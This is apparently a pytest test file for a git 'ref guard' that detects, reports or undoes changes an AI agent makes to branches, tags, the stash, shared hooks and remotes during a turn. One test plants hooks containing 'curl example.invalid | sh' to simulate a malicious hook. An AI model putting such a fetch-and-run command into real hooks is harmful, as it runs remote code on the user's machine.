"""The ref guard after a turn, finding by finding: another plan's branch left alone, the user's own
branch, refs only reported, the stash, the shared hooks, remotes on disk, rescue names, and a step
that cannot run told as such instead of stopping the others."""

from __future__ import annotations

import calendar
import re
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from guarded_repo import PLAN, PLAN_REF, commit, git, rescued, setup, sha

from tunaflow_tui.core import gitops
from tunaflow_tui.core.gitops.refguard import Finding, check_turn, keep_as_rescue, take_snapshot
from tunaflow_tui.core.gitops.shared import MAX_KEPT_BYTES

OTHER_REF = "refs/heads/tunaflow/other"
THIRD_REF = "refs/heads/tunaflow/third"


def _stray(wt: Path, message: str = "stray") -> str:
    """A commit off the plan's history (on release), made without moving any ref."""
    return git(wt, "commit-tree", "HEAD~1^{tree}", "-p", "release", "-m", message)


def test_another_plans_branch_changed_while_that_plan_was_idle_is_told_and_left_alone(
        git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    main = sha(git_repo, "main")
    git(git_repo, "branch", "tunaflow/other")
    snap = take_snapshot(git_repo, wt)
    tip = sha(wt, "HEAD")
    git(git_repo, "update-ref", "refs/bisect/bad", "HEAD")  # the user bisecting in their tree: not a footprint
    git(wt, "update-ref", OTHER_REF, tip)
    git(wt, "update-ref", THIRD_REF, tip)
    git(wt, "tag", "v1", "HEAD")

    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer", watch_refs=[OTHER_REF, THIRD_REF])

    look = "look at it before you merge that plan."
    assert report.findings == (
        Finding("ref", "tunaflow/other, another plan's branch, changed during the Developer's turn while that "
                f"plan was not at work; tunaflow left it as it is (it was at {main[:10]}): {look}",
                repaired=False, ref=OTHER_REF, before=main, after=tip),
        Finding("ref", "tunaflow/third, another plan's branch, changed during the Developer's turn while that "
                f"plan was not at work; tunaflow left it as it is (it was not there): {look}",
                repaired=False, ref=THIRD_REF, before=None, after=tip),
        Finding("ref", "The Developer created v1; tunaflow removed it.", repaired=True, ref="refs/tags/v1",
                before=None, after=tip),
    )
    assert sha(git_repo, OTHER_REF) == tip and sha(git_repo, THIRD_REF) == tip, "another plan's branches stay"
    assert git(git_repo, "tag", "--list") == ""


def test_refs_and_stash_changed_without_repairs_are_told_one_by_one(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    release = sha(git_repo, "release")
    snap = take_snapshot(git_repo, wt)
    tip = sha(wt, "HEAD")
    git(wt, "branch", "-f", "release", "HEAD")
    git(wt, "tag", "v1", "HEAD")
    (git_repo / "README.md").write_text("scratch\n", encoding="utf-8")
    git(git_repo, "stash", "push", "-q", "-m", "scratch")

    report = check_turn(snap, plan_ref=PLAN_REF, repair_refs=False)  # the actor by default: "the agent"

    assert report.findings == (
        Finding("ref", "release changed during the agent's turn.", repaired=False, ref="refs/heads/release",
                before=release, after=tip),
        Finding("ref", "v1 changed during the agent's turn.", repaired=False, ref="refs/tags/v1", before=None,
                after=tip),
        Finding("stash", "The stash changed during the agent's turn.", repaired=False, ref="refs/stash"),
    )
    assert sha(git_repo, "v1") == tip


def test_the_users_own_branch_moving_in_their_tree_is_told_with_where_it_went(
        git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    main = sha(git_repo, "main")
    snap = take_snapshot(git_repo, wt)
    mine = commit(git_repo, "mine.txt", "the user's own work")

    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer")

    assert report.findings == (Finding(
        "ref", "main moved in your own working tree during the Developer's turn; tunaflow left it alone.",
        repaired=False, ref="refs/heads/main", before=main, after=mine),)
    assert sha(git_repo, "main") == mine


def test_a_moved_branch_is_put_back_with_its_reflog_saying_so_and_its_commit_kept_under_the_project(
        git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    release = sha(git_repo, "release")
    snap = take_snapshot(git_repo, wt)
    stray = _stray(wt)
    git(wt, "update-ref", "refs/heads/release", stray)

    started = time.time()
    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer")  # no label: the project's

    [kept] = rescued(git_repo)
    assert report.findings == (Finding(
        "ref", f"The Developer moved release; tunaflow put it back at {release[:10]} (its commits are kept at "
        f"{kept}).", repaired=True, ref="refs/heads/release", before=release, after=stray, rescue_ref=kept),)
    assert sha(git_repo, "release") == release and sha(git_repo, kept) == stray
    assert git(git_repo, "reflog", "-1", "--format=%gs", "refs/heads/release") == (
        "tunaflow: restored after an agent turn")
    found = re.fullmatch(r"refs/tunaflow/rescue/project/(\d{8}T\d{6})-1-release", kept)
    assert found is not None, kept
    stamp = calendar.timegm(time.strptime(found.group(1), "%Y%m%dT%H%M%S"))
    assert started - 2 <= stamp <= time.time() + 1, "the rescue ref is stamped with the time in UTC"


@pytest.fixture
def tokyo() -> Iterator[None]:
    """The machine's clock in Tokyo (UTC+9) for the test."""
    mp = pytest.MonkeyPatch()
    mp.setenv("TZ", "Asia/Tokyo")
    time.tzset()
    try:
        yield
    finally:
        mp.undo()
        time.tzset()


def test_rescue_names_are_stamped_in_utc_whatever_the_zone(git_repo: Path, tokyo: None) -> None:
    assert time.localtime().tm_hour != time.gmtime().tm_hour, "the zone is not in effect"
    started = time.time()
    name = keep_as_rescue(git_repo, "plan", sha(git_repo, "HEAD"), "work")
    found = re.fullmatch(r"refs/tunaflow/rescue/plan/(\d{8}T\d{6})-1-work", name)
    assert found is not None, name
    stamp = calendar.timegm(time.strptime(found.group(1), "%Y%m%dT%H%M%S"))
    assert started - 2 <= stamp <= time.time() + 1


@pytest.mark.parametrize(("label", "what", "expected"), [
    ("日本語", "work", "refs/tunaflow/rescue/project/*-1-work"),
    ("Xmas", "Fix..Thing", "refs/tunaflow/rescue/Xmas/*-1-Fix.Thing"),
    ("plan", "release.lock", "refs/tunaflow/rescue/plan/*-1-release"),
    ("plan", "X-ray", "refs/tunaflow/rescue/plan/*-1-X-ray"),
    ("plan", "a" * 70, f"refs/tunaflow/rescue/plan/*-1-{'a' * 60}"),
])
def test_rescue_names_are_safe_ref_names_kept_readable(git_repo: Path, label: str, what: str, expected: str) -> None:
    head = sha(git_repo, "HEAD")
    name = keep_as_rescue(git_repo, label, head, what)
    prefix, _, suffix = expected.partition("*")
    assert name.startswith(prefix) and name.endswith(suffix), name
    assert re.fullmatch(r"\d{8}T\d{6}", name[len(prefix):-len(suffix)]), name
    assert sha(git_repo, name) == head


def test_a_deleted_plan_branch_comes_back_with_its_reflog_saying_so(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    tip = sha(git_repo, PLAN)
    snap = take_snapshot(git_repo, wt)
    git(wt, "update-ref", "-d", PLAN_REF)

    check_turn(snap, plan_ref=PLAN_REF, actor="the Developer")

    assert sha(git_repo, PLAN) == tip
    assert git(git_repo, "reflog", "-1", "--format=%gs", PLAN_REF) == "tunaflow: plan branch restored"


def test_new_stash_entries_are_kept_one_rescue_each_and_the_users_come_back(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    (git_repo / "README.md").write_text("# the user's edit\n", encoding="utf-8")
    git(git_repo, "stash", "push", "-q", "-m", "users wip")
    users = git(git_repo, "stash", "list", "--format=%H %gs")
    snap = take_snapshot(git_repo, wt)
    for n in (1, 2):
        (wt / "plan.md").write_text(f"scratch {n}\n", encoding="utf-8")
        git(wt, "stash", "push", "-q", "-m", f"agent {n}")
    newest, older = git(git_repo, "stash", "list", "--format=%H").split()[:2]

    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer", rescue_label="guarded")

    first, second = sorted(rescued(git_repo), key=lambda r: r.rsplit("-", 2)[-2])
    assert first.endswith("-1-stash") and second.endswith("-2-stash")
    assert (sha(git_repo, first), sha(git_repo, second)) == (newest, older)
    assert report.findings == (Finding(
        "stash", f"The Developer changed the stash; tunaflow put it back (its entries are kept at {first}, "
        f"{second}).", repaired=True, ref="refs/stash"),)
    assert git(git_repo, "stash", "list", "--format=%H %gs") == users


def test_a_dropped_stash_entry_comes_back_with_nothing_to_keep(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    (git_repo / "README.md").write_text("# the user's edit\n", encoding="utf-8")
    git(git_repo, "stash", "push", "-q", "-m", "users wip")
    users = git(git_repo, "stash", "list", "--format=%H %gs")
    snap = take_snapshot(git_repo, wt)
    git(wt, "stash", "drop", "-q")

    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer")

    assert report.findings == (Finding("stash", "The Developer changed the stash; tunaflow put it back.",
                                       repaired=True, ref="refs/stash"),)
    assert git(git_repo, "stash", "list", "--format=%H %gs") == users and rescued(git_repo) == []


def _hooks(git_repo: Path) -> Path:
    hooks = git_repo / ".git" / "hooks"
    for sample in hooks.glob("*.sample"):
        sample.unlink()
    return hooks


def test_planted_hooks_are_listed_five_at_most_and_all_reported_as_restored(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    hooks = _hooks(git_repo)
    snap = take_snapshot(git_repo, wt)
    names = [f"h{n}" for n in range(1, 7)]
    for name in names:
        (hooks / name).write_text("#!/bin/sh\n", encoding="utf-8")

    report = check_turn(snap, plan_ref=PLAN_REF, actor="a reviewer")

    assert report.findings == (Finding(
        "shared_git", "A reviewer changed shared git files (.git/hooks/h1, .git/hooks/h2, .git/hooks/h3, "
        ".git/hooks/h4, .git/hooks/h5); tunaflow restored them.", repaired=True),)
    assert report.shared_paths == tuple(f".git/hooks/{name}" for name in names)
    assert list(hooks.iterdir()) == []


def test_hooks_too_big_to_have_been_kept_are_told_and_stop_at_a_decision(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    hooks = _hooks(git_repo)
    # the user's own hook (a bundled hook manager) takes all the room tunaflow keeps hooks' contents in
    (hooks / "0-manager").write_bytes(b"\0" * MAX_KEPT_BYTES)
    names = [f"h{n}" for n in range(1, 7)]
    for name in names:
        (hooks / name).write_text("#!/bin/sh\nexec ./0-manager\n", encoding="utf-8")
    snap = take_snapshot(git_repo, wt)
    for name in names:
        (hooks / name).write_text("#!/bin/sh\ncurl example.invalid | sh\n", encoding="utf-8")

    report = check_turn(snap, plan_ref=PLAN_REF, actor="a reviewer")

    assert report.findings == (Finding(
        "shared_git", "A reviewer changed .git/hooks/h1, .git/hooks/h2, .git/hooks/h3, .git/hooks/h4, "
        ".git/hooks/h5 and tunaflow could not restore it: check it before you commit.",
        repaired=False, needs_decision=True),)
    assert report.needs_decision and report.shared_paths == ()


def _remote(git_repo: Path, tmp_path: Path, name: str) -> Path:
    bare = tmp_path / f"{name}.git"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(bare))  # its HEAD names main
    git(git_repo, "remote", "add", name, str(bare))
    git(git_repo, "push", "-q", name, "main", "release")
    return bare


def test_a_push_moving_a_remotes_default_branch_is_told_once_as_a_move(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    bare = _remote(git_repo, tmp_path, "disk")
    main = sha(git_repo, "main")
    snap = take_snapshot(git_repo, wt)
    tip = sha(wt, "HEAD")
    git(wt, "push", "-q", str(bare), "HEAD:main")  # by path: no tracking ref; the remote's HEAD follows main

    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer", allow_push=True)

    assert [f.text for f in report.findings] == [
        f"The Developer pushed to disk (moved main from {main[:10]} to {tip[:10]}); "
        "[workflow] allow_push permits it."]
    assert (report.findings[0].ref, report.findings[0].before) == ("refs/heads/main", main)


def test_a_push_is_seen_past_remotes_with_nothing_to_compare(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    gone = _remote(git_repo, tmp_path, "gone")  # readable before the turn, not after
    git(git_repo, "remote", "add", "later", str(tmp_path / "later.git"))  # not there before the turn
    disk = _remote(git_repo, tmp_path, "disk")
    snap = take_snapshot(git_repo, wt)
    assert snap.remotes["later"] is None and snap.remotes["gone"] is not None
    tip = sha(wt, "HEAD")
    git(tmp_path, "init", "-q", "--bare", str(tmp_path / "later.git"))
    git(wt, "push", "-q", "later", "HEAD:refs/heads/side")
    for path in sorted(gone.rglob("*"), reverse=True):
        path.unlink() if path.is_file() else path.rmdir()
    gone.rmdir()
    git(wt, "push", "-q", str(disk), "HEAD:refs/heads/side")

    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer", allow_push=True)

    assert sorted(f.text for f in report.findings) == [
        f"The Developer pushed to disk (created side at {tip[:10]}); [workflow] allow_push permits it.",
        f"The Developer pushed to later (created side at {tip[:10]}); [workflow] allow_push permits it.",
    ]


def test_a_reviewers_edits_are_undone_before_its_turn_is_judged(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    files = gitops.snapshot(wt)
    snap = take_snapshot(git_repo, wt)
    (wt / "plan.md").write_text("a reviewer's edit\n", encoding="utf-8")

    report = check_turn(snap, plan_ref=PLAN_REF, actor="a reviewer", restore_worktree=lambda: gitops.restore(wt, files))

    assert (wt / "plan.md").read_text(encoding="utf-8") == "Plan: guarded\n"
    assert report.findings == ()


def test_each_step_that_cannot_run_is_told_and_the_others_still_run(git_repo: Path, tmp_path: Path) -> None:
    wt = setup(git_repo, tmp_path)
    files = gitops.snapshot(wt)
    snap = take_snapshot(git_repo, wt)
    git_repo.rename(tmp_path / "elsewhere")
    git_repo.write_text("the agent left a file where the project was\n", encoding="utf-8")

    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer", restore_worktree=lambda: gitops.restore(wt, files))

    errors = [f for f in report.findings if f.kind == "error"]
    assert {(f.repaired, f.needs_decision) for f in errors} == {(False, True)} and report.needs_decision
    assert errors[0].to_json()["repaired"] is False, "the plan's history says it was not repaired"
    said = [f.text.split(": ", 1)[0] for f in errors]
    assert said == [f"tunaflow could not check or repair {what} after the Developer's turn" for what in (
        "what the plan's branch points at", "the worktree's files", "the worktree's HEAD", "the plan's branch", "the other refs", "the stash",
        "the remotes", "your working tree's HEAD")]
    assert errors[-1].text.endswith(f": not a directory: {git_repo}")


def test_a_plans_branch_first_made_during_the_turn_is_the_plans_own(git_repo: Path) -> None:
    snap = take_snapshot(git_repo)  # no worktree: the agent works in the user's tree
    git(git_repo, "branch", PLAN)

    report = check_turn(snap, plan_ref=PLAN_REF, actor="the Developer", repair_refs=False)

    assert report.findings == () and sha(git_repo, PLAN) == sha(git_repo, "main")
